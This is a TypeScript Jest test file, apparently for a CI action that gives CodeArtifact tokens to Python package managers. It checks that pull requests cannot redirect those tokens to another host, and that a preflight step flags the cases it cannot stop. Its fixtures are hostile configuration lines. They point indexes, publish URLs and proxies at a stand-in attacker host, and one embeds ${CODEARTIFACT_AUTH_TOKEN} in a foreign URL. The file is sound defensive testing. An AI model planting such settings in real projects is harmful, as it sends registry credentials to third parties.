/** Whatever a pull request writes into the files of a project, a token goes to its own host; or preflight finds it. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from '@jest/globals';
import { startProxy } from '../../sandbox/aws/proxy.ts';
import { projectTable } from '../support/demo-project.ts';
import { type ManagedProject, setManagedStage, TWO_IDENTITIES } from '../support/managed-project.ts';
import { describeWithPython } from '../support/python-clients.ts';
import { sharedStage } from '../support/shared-stage.ts';
import { addWheel } from '../support/uploads.ts';

/** A project as a pull request leaves it, and the call of a client in it. */
interface Attack {
  readonly files: Record<string, string>;
  readonly words: readonly string[];
}

const IDENTITIES: Readonly<Record<string, Record<string, string>>> = {
  'one identity': {},
  'two identities': TWO_IDENTITIES,
};

/** virtualenv looks for news in a process of its own, which the end of a job does not wait for. */
const ALONE = { VIRTUALENV_NO_PERIODIC_UPDATE: '1' };

await describeWithPython(
  'a token goes to its own host',
  (clients) => {
    const stage = sharedStage(() => setManagedStage(clients));
    const inputs = (tools: string) => ({ repositories: `${stage.urls.team}\n${stage.urls.shared}`, tools });
    const stranger = (path: string) => `https://${stage.strangerHost}/${path}`;
    const tables = (header: string, names: readonly string[], url: string, rest = '') =>
      names.map((name) => `[[${header}]]\nname = "${name}"\nurl = "${url}"\n${rest}`).join('');

    function run(project: ManagedProject, { files, words }: Attack, env: Record<string, string> = {}) {
      for (const [name, text] of Object.entries(files)) project.write(name, text);
      return project.run(words, { ...ALONE, ...env });
    }

    /** Whether the stranger was asked by an attack, and whose tokens went there. */
    async function strangerOf(project: ManagedProject, attack: Attack, env: Record<string, string> = {}) {
      const from = stage.standIn.calls.length;
      const { log } = await run(project, attack, env);
      const calls = stage.standIn.calls.slice(from).filter(({ host }) => host === stage.strangerHost);
      return { wasAsked: calls.length > 0 || log, tokens: calls.flatMap(({ tokenOf }) => tokenOf ?? []) };
    }

    /** Installs in a project that gives all of our names to indexes of the stranger. */
    const INSTALLS: Readonly<Record<string, () => Attack>> = {
      pip: () => ({
        files: { 'requirements.txt': `--extra-index-url ${stranger('simple/')}\nacme-lib\n` },
        words: ['pip', 'download', '--no-deps', '-r', 'requirements.txt'],
      }),
      uv: () => ({
        files: {
          'pyproject.toml':
            projectTable(['acme-lib']) + tables('tool.uv.index', ['team', 'shared', 'SHARED'], stranger('simple/')),
        },
        words: ['uv', 'lock', '--no-cache'],
      }),
      poetry: () => ({
        files: {
          'pyproject.toml':
            projectTable(['acme-lib']) + tables('tool.poetry.source', ['team', 'shared'], stranger('simple/')),
          'poetry.toml': `[repositories]\nshared.url = "${stranger('')}"\n`,
        },
        words: ['poetry', 'lock', '--no-cache'],
      }),
      pdm: () => ({
        files: {
          'pyproject.toml':
            projectTable(['acme-lib']) + tables('tool.pdm.source', ['pypi', 'team'], stranger('simple/')),
          'pdm.toml': `[pypi.shared]\nurl = "${stranger('simple/')}"\n`,
        },
        words: ['pdm', 'lock'],
      }),
      pipenv: () => ({
        files: {
          Pipfile:
            `${tables('source', ['team', 'shared'], stranger('simple/'), 'verify_ssl = true\n')}[packages]\n` +
            'acme-lib = "*"\n',
        },
        words: ['pipenv', 'lock'],
      }),
      hatch: () => ({
        files: {
          'pyproject.toml':
            `${projectTable()}[tool.hatch.envs.default]\nskip-install = true\ndependencies = ["acme-lib"]\n` +
            `env-vars.PIP_EXTRA_INDEX_URL = "${stranger('simple/')}"\n`,
        },
        words: ['hatch', 'env', 'create'],
      }),
    };

    describe.each(Object.keys(IDENTITIES))('with %s, a source of a project elsewhere gets none', (kind) => {
      test.each(Object.entries(INSTALLS))('%s', async (client, attackOf) => {
        await using project = await stage.startProject({ ...inputs(client), ...IDENTITIES[kind] });
        expect(await strangerOf(project, attackOf())).toEqual({ wasAsked: true, tokens: [] });
      });
    });

    /** Uploads from a project that gives all of our names to the stranger, and its own defaults too. */
    const UPLOADS: Readonly<Record<string, () => Attack>> = {
      uv: () => ({
        files: {
          'pyproject.toml':
            `${projectTable()}[tool.uv]\npublish-url = "${stranger('')}"\ncheck-url = "${stranger('simple/')}"\n` +
            tables('tool.uv.index', ['team', 'shared'], stranger('simple/'), `publish-url = "${stranger('')}"\n`),
        },
        words: ['uv', 'publish'],
      }),
      poetry: () => ({
        files: {
          'pyproject.toml': projectTable([], 'acme-upload') + tables('tool.poetry.source', ['team'], stranger('')),
          'poetry.toml': `[repositories]\nteam.url = "${stranger('')}"\n`,
        },
        words: ['poetry', 'publish', '-r', 'team'],
      }),
      hatch: () => ({
        files: {
          'pyproject.toml':
            `${projectTable()}[tool.hatch.publish.index]\nrepo = "${stranger('')}"\n` +
            `[tool.hatch.publish.index.repos]\nteam = "${stranger('')}"\nmain = "${stranger('')}"\n`,
          'hatch.toml': `[publish.index]\nrepo = "${stranger('')}"\n`,
        },
        words: ['hatch', 'publish'],
      }),
    };

    describe.each(Object.keys(IDENTITIES))('with %s, uploads of a project that names the stranger', (kind) => {
      test.each(Object.entries(UPLOADS))('%s', async (client, attackOf) => {
        await using project = await stage.startProject({
          ...inputs(client),
          'publish-to': 'team',
          ...IDENTITIES[kind],
        });
        await addWheel(project.folder, `${Date.now()}.0`);
        // hatch publishes through no proxy.
        const direct = {
          PYTHONPATH: fileURLToPath(new URL('../support/python-path', import.meta.url)),
          STAND_IN_HOSTS: `${new URL(stage.urls.team).host} ${stage.strangerHost}`,
          STAND_IN_PORT: `${stage.standIn.securePort}`,
        };
        const { tokens } = await strangerOf(project, attackOf(), client === 'hatch' ? direct : {});
        expect(tokens).toEqual([]);
        // poetry goes where the project's poetry.toml leads it, without a token; preflight tells.
        const goesElsewhere = client === 'poetry';
        expect(project.uploads()).toEqual([goesElsewhere ? `${stage.strangerHost}  200` : 'acme team 200']);
      });
    });

    /** What no client can be kept from. */
    describe('what preflight finds, and would be sent elsewhere or in clear', () => {
      const host = () => new URL(stage.urls.team).host;
      const plain = () => `http://${host()}/pypi/team/simple/`;
      const wheel = () => `${plain()}acme-lib/1.0.0/acme_lib-1.0.0-py3-none-any.whl`;

      /** What preflight says of the files at the top of a workspace, each with its line. */
      async function preflightOf(files: Record<string, string>, tools: string) {
        const given = { ...inputs(tools), preflight: 'true' };
        const error = await stage.startProject(given, { workspace: files }).then(
          () => new Error('nothing'),
          (reason: Error) => reason,
        );
        return [...error.message.matchAll(/(?:^|[/\\ ])(\S+?) line (\d+)\)? (uses|could send|changes|turns)/gm)].map(
          (words) =>
            words
              .slice(1)
              .join(' ')
              .replace(/^.*[/\\]/, ''),
        );
      }

      const PLAIN: Readonly<Record<string, () => Attack & { readonly found: string }>> = {
        pip: () => ({
          files: { 'requirements.txt': `acme-lib @ ${wheel()}\n` },
          words: ['pip', 'download', '--no-deps', '-r', 'requirements.txt'],
          found: 'requirements.txt 1 uses',
        }),
        uv: () => ({
          files: { 'pyproject.toml': projectTable(['acme-lib']) + tables('tool.uv.index', ['any'], plain()) },
          words: ['uv', 'lock', '--no-cache'],
          found: 'pyproject.toml 8 uses',
        }),
        poetry: () => ({
          files: { 'pyproject.toml': projectTable(['acme-lib']) + tables('tool.poetry.source', ['any'], plain()) },
          words: ['poetry', 'lock', '--no-cache'],
          found: 'pyproject.toml 8 uses',
        }),
        pdm: () => ({
          files: {
            'pyproject.toml':
              projectTable(['acme-lib']) + tables('tool.pdm.source', ['any'], plain(), 'verify_ssl = false\n'),
          },
          words: ['pdm', 'lock'],
          found: 'pyproject.toml 8 uses',
        }),
        pipenv: () => ({
          files: {
            Pipfile: `${tables('source', ['any'], plain(), 'verify_ssl = false\n')}[packages]\nacme-lib = "*"\n`,
          },
          words: ['pipenv', 'lock'],
          found: 'Pipfile 3 uses',
        }),
      };

      test.each(Object.entries(PLAIN))('plain http: %s', async (client, attackOf) => {
        const sent = new Set<string | undefined>();
        const listener = createServer((request, response) => {
          sent.add(request.headers.authorization);
          response
            .writeHead(request.headers.authorization ? 404 : 401, { 'www-authenticate': 'Basic realm="x"' })
            .end();
        });
        await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
        const proxy = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
        const { found, ...attack } = attackOf();
        {
          await using project = await stage.startProject(inputs(client));
          await run(project, attack, { HTTP_PROXY: proxy, http_proxy: proxy });
          const [token] = project.tokens;
          expect([...sent]).toContain(`Basic ${Buffer.from(`aws:${token}`).toString('base64')}`);
        }
        listener.close();
        expect(await preflightOf(attack.files, client)).toContain(found);
      });

      test('a proxy of the project, before which uv checks no certificate', async () => {
        const proxy = await startProxy({ port: stage.standIn.securePort, hosts: ['*'] });
        const settings = `[tool.uv]\nhttps-proxy = "${proxy.url}"\nallow-insecure-host = ["${host()}"]\n`;
        const files = { 'pyproject.toml': projectTable(['acme-lib']) + settings };
        {
          await using project = await stage.startProject(inputs('uv'));
          const from = stage.standIn.calls.length;
          const attack = { files, words: ['uv', 'lock', '--no-cache'] };
          expect((await run(project, attack, { SSL_CERT_FILE: '' })).succeeded).toBe(true);
          expect(proxy.connects.map(({ target }) => target)).toContain(`${host()}:443`);
          expect(stage.standIn.calls.slice(from).some(({ tokenOf }) => tokenOf !== undefined)).toBe(true);
        }
        await proxy.close();
        expect(await preflightOf(files, 'uv')).toEqual(['pyproject.toml 8 turns']);
      });

      test('the variable of tools: env in a URL of another host', async () => {
        const index = `-i https://aws:\${CODEARTIFACT_AUTH_TOKEN}@${stage.strangerHost}/simple/\nacme-lib\n`;
        const files = { 'requirements.txt': index };
        {
          await using project = await stage.startProject(inputs('env'));
          const words = ['pip', 'download', '--no-deps', '-r', 'requirements.txt'];
          expect((await strangerOf(project, { files, words })).tokens).not.toEqual([]);
        }
        expect(await preflightOf(files, 'env')).toEqual(['requirements.txt 1 could send']);
      });

      test("a server of the project's pdm.toml with a NAME of ours", async () => {
        const files = {
          'pyproject.toml': projectTable([], 'acme-upload'),
          'pdm.toml': `[repository.team]\nurl = "${stranger('')}"\n`,
        };
        {
          await using project = await stage.startProject({ ...inputs('pdm'), 'publish-to': 'team' });
          await addWheel(project.folder, '0.1');
          const attack = { files, words: ['pdm', 'publish', '--no-build'] };
          expect((await strangerOf(project, attack)).tokens).not.toEqual([]);
        }
        const given = { ...inputs('pdm'), preflight: 'true' };
        await expect(stage.startProject(given, { workspace: files })).rejects.toThrow(
          /pdm: repository\.team \(\S+[/\\]pdm\.toml line 1\) conflicts with/,
        );
      });
    });
  },
  'managers',
);
